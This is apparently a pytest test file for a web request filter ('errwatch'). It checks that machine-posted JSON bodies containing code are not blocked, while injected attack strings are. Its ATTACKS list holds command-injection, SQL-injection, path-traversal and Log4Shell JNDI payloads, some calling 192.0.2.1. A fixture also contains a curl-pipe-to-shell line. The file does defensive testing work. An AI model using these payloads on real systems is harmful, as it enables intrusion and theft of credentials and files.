"""What programs and editors post each day, with commands, queries, paths and code as data in it: nobody is blocked, and an intruder in the same
dress is."""
import pathlib

import pytest

import check_samples as samples
from test_written_texts import BROWSER, blocked

pytestmark = pytest.mark.skipif(samples.program() is None, reason="no errwatch: build it, or set ERRWATCH")

BODIES = pathlib.Path(__file__).with_name("machine_bodies.txt")
# So many of one body follow each other, of which each differs in its numbers: a push of a dozen layers, an hour of reports.
MOST = 12


# What is found all the same where it differs each time: a file of the system that is written, code as a line alone.
FOUND = [("infrastructure", 6), ("notebooks", 4)]


class Family:
    def __init__(self, section):
        head, _, rest = section.partition("\n")
        self.name, self.method, self.path, self.kind, self.agent = head.split(" | ")
        self.bodies = rest.strip("\n").split("\n====\n")

    def post(self, body, number, browser=False):
        headers = {**BROWSER} if browser else {"Host": "www.example.org", "User-Agent": self.agent, "Accept": "*/*"}
        return {"method": self.method, "uri": self.path.replace("§", str(number)), "status": 200,
                "headers": {**headers, "Content-Type": self.kind}, "body": body.replace("§", str(number))}


FAMILIES = [Family(section) for section in BODIES.read_text(encoding="utf-8").split("\n## ")[1:]]


def in_turn(family, browser, seconds, count):
    bodies = [body for number, body in enumerate(family.bodies) if browser or (family.name, number) not in FOUND]
    return [(i * seconds, family.post(bodies[i % len(bodies)], i + 5, browser)) for i in range(count)]


def test_there_are_enough():
    assert len(FAMILIES) >= 10 and sum(len(family.bodies) for family in FAMILIES) >= 60


def test_programs_that_send_one_of_them_again_and_again():
    clients = {(family.name, number): [(i * 30, family.post(body, i + 5)) for i in range(MOST)]
               for family in FAMILIES for number, body in enumerate(family.bodies)}
    assert blocked(clients) == FOUND


@pytest.mark.parametrize("seconds", [5, 60])
def test_programs_that_send_all_of_them(seconds):
    assert not blocked({family.name: in_turn(family, False, seconds, 2 * len(family.bodies)) for family in FAMILIES})


def test_editors_of_this_site_that_save_by_themselves():
    """For an hour, and the page has nothing else to fetch."""
    assert not blocked({family.name: in_turn(family, True, 20, 180) for family in FAMILIES})



def test_states_of_many_machines():
    """Each one is not there when it is asked for first, and holds what the machine runs when it is new."""
    own = Family("states | POST | /bucket/env§/terraform.tfstate | application/json | Go-http-client/1.1\n"
                 '{"serial":§,"resources":[{"attributes":{"user_data":"#!/bin/sh\\ncurl -fsSL https://x§.example.org | sh"}}]}')
    requests = []
    for number in range(25):
        post = own.post(own.bodies[0], number)
        ask = {"method": "GET", "uri": post["uri"], "headers": {"Host": "www.example.org", "User-Agent": own.agent}}
        requests += [{**ask, "status": 404}, post, {**ask, "status": 200}]
    assert not blocked({"states": [(i * 7, request) for i, request in enumerate(requests)]})


ATTACKS = ["; id", "1' union select password,§ from users-- -", "$(curl 192.0.2.1/§)", "../../../../etc/passwd", "x|cat /etc/passwd §", "${jndi:ldap://192.0.2.1/§}"]


@pytest.mark.parametrize("family", FAMILIES, ids=lambda family: family.name)
def test_intruder_in_the_same_dress(family):
    """The value of one member, in the middle of what the program sends."""
    if not family.bodies[0].startswith(("{", "[")):
        pytest.skip("no JSON")
    first = family.bodies[0].split("\n")[0]
    posts = [family.post(first[:1] + ('"x":"%s",' % attack if first[0] == "{" else '"%s",' % attack) + first[1:], number)
             for number, attack in enumerate(ATTACKS)]
    assert blocked({family.name: list(enumerate(posts))}) == [family.name]
